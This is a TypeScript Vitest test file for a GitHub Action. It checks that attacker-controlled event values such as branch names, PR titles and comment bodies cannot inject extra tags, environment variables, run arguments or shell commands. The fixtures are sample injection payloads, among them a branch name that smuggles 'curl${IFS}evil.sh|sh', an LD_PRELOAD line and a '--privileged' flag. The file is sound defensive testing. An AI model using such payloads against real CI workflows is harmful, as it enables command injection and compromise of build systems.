import * as fs from 'node:fs'
import * as os from 'node:os'
import * as path from 'node:path'
import { describe, expect, it } from 'vitest'
import { readSettings } from '../../src/inputs/settings.js'
import { LIST_INPUTS, eventValues } from '../../src/inputs/event-values.js'

/** The event payload GitHub writes for the step, at GITHUB_EVENT_PATH. */
function eventFile(payload: unknown): string {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'rp-event-'))
  fs.writeFileSync(path.join(dir, 'event.json'), JSON.stringify(payload))
  return path.join(dir, 'event.json')
}

const ws = fs.mkdtempSync(path.join(os.tmpdir(), 'rp-ws-'))
const read = (inputs: Record<string, string>, env: NodeJS.ProcessEnv) => () => readSettings(name => inputs[name] ?? '', { GITHUB_WORKSPACE: ws, ...env })

describe('an event value cannot add a list item (issue 33, ADR 0015)', () => {
  const branch = 'feature,ghcr.io/acme/app'
  const pr = {
    pull_request: { title: 'Fix login\nDATABASE_URL=postgres://evil', head: { ref: branch }, body: 'a, b' },
    inputs: { tags: 'ghcr.io/acme/app:a,ghcr.io/acme/app:b' }
  }
  const env = { GITHUB_HEAD_REF: branch, GITHUB_EVENT_PATH: eventFile(pr) }

  it('refuses a branch name that would add a tag, naming the input and the variable, never the value', () => {
    const run = read({ tags: `ghcr.io/acme/app:pr-${branch}` }, env)
    expect(run).toThrow(/^tags: the text holds GITHUB_HEAD_REF, an event value .* docker\/metadata-action/)
    expect(run).not.toThrow(/feature,ghcr/)
  })

  it('finds a value anywhere in the payload, lower-cased too, with where it was read', () => {
    expect(read({ env: `TITLE=${pr.pull_request.title}` }, { GITHUB_EVENT_PATH: env.GITHUB_EVENT_PATH })).toThrow(
      /^env: the text holds github\.event\.pull_request\.title, .*\(secrets: NAME passes it by name/
    )
    expect(read({ tags: `ghcr.io/acme/app:${branch.toLowerCase()}x` }, { GITHUB_EVENT_PATH: env.GITHUB_EVENT_PATH })).toThrow(
      /github\.event\.pull_request\.head\.ref/
    )
    expect(read({ 'build-args': `NOTE=${pr.pull_request.title.toUpperCase()}` }, env)).toThrow(/^build-args: .*build-args: NAME takes/)
  })

  it('judges each input by its own separators: a comma in a newline list is part of the item', () => {
    const s = read({ labels: `org.opencontainers.image.description=${pr.pull_request.body}`, tags: 'ghcr.io/acme/app:1\nghcr.io/acme/app:2' }, env)()
    expect(s.labels).toEqual(['org.opencontainers.image.description=a, b'])
    expect(s.tags).toHaveLength(2)
  })

  it('leaves values the workflow chose alone: workflow_dispatch inputs, and text that holds no event value', () => {
    const dispatch = { GITHUB_EVENT_PATH: eventFile({ inputs: { tags: 'ghcr.io/acme/app:a,ghcr.io/acme/app:b' }, client_payload: { e: 'x=1\ny=2' } }) }
    expect(read({ tags: 'ghcr.io/acme/app:a,ghcr.io/acme/app:b', env: 'x=1\ny=2' }, dispatch)().tags).toHaveLength(2)
    expect(eventValues(dispatch)).toEqual([])
  })

  it('reads the payload only when an input holds a separator, and refuses one that is not JSON', () => {
    const broken = { GITHUB_EVENT_PATH: path.join(path.dirname(env.GITHUB_EVENT_PATH), 'broken.json') }
    fs.writeFileSync(broken.GITHUB_EVENT_PATH, '{')
    expect(read({ tags: 'ghcr.io/acme/app:1' }, broken)().tags).toHaveLength(1)
    expect(read({ tags: 'ghcr.io/acme/app:1,ghcr.io/acme/app:2' }, broken)).toThrow(/event payload .* is not JSON/)
  })

  it('covers run-args word by word, and every list input of action.yml', () => {
    const title = { GITHUB_EVENT_PATH: eventFile({ issue: { title: 'x --privileged' } }) }
    expect(read({ 'run-args': '--label t=x --privileged' }, title)).toThrow(/^run-args: the text holds github\.event\.issue\.title/)
    const action = fs.readFileSync(path.resolve(__dirname, '../../action.yml'), 'utf8')
    const inputs = action.slice(0, action.indexOf('\noutputs:'))
    for (const name of Object.keys(LIST_INPUTS)) expect(inputs, name).toContain(`\n  ${name}:\n`)
  })

  it('catches what a review found: a value at the trimmed end, cache attributes, sidecar YAML, a lone backslash in run-args', () => {
    const comment = { GITHUB_EVENT_PATH: eventFile({ comment: { body: 'thanks\nLD_PRELOAD=/tmp/x.so\n' } }) }
    expect(read({ env: 'A=1\nGREETING=thanks\nLD_PRELOAD=/tmp/x.so' }, comment)).toThrow(/^env: the text holds github\.event\.comment\.body/)
    const cacheRef = { GITHUB_HEAD_REF: 'x,ref=ghcr.io/acme/app,image-manifest=true' }
    expect(read({ 'cache-to': 'type=registry,ref=ghcr.io/acme/cache:x,ref=ghcr.io/acme/app,image-manifest=true' }, cacheRef)).toThrow(
      /^cache-to: the text holds GITHUB_HEAD_REF/
    )
    const title = { GITHUB_EVENT_PATH: eventFile({ pull_request: { title: 'x, POSTGRES_HOST_AUTH_METHOD: trust' }, issue: { title: 'fix\\' } }) }
    expect(read({ sidecars: 'db:\n  image: postgres:16\n  env: { TITLE: x, POSTGRES_HOST_AUTH_METHOD: trust }' }, title)).toThrow(
      /^sidecars: the text holds github\.event\.pull_request\.title/
    )
    expect(read({ 'run-args': '--label pr=fix\\ --read-only' }, title)).toThrow(/^run-args: the text holds github\.event\.issue\.title/)
  })

  it("release-command is a shell's input: an operator in an event value starts another command (from a review)", () => {
    const branch = { GITHUB_HEAD_REF: 'x;curl${IFS}evil.sh|sh' }
    expect(read({ 'release-command': 'bin/rails db:migrate && bin/notify x;curl${IFS}evil.sh|sh' }, branch)).toThrow(
      /^release-command: the text holds GITHUB_HEAD_REF/
    )
  })
})
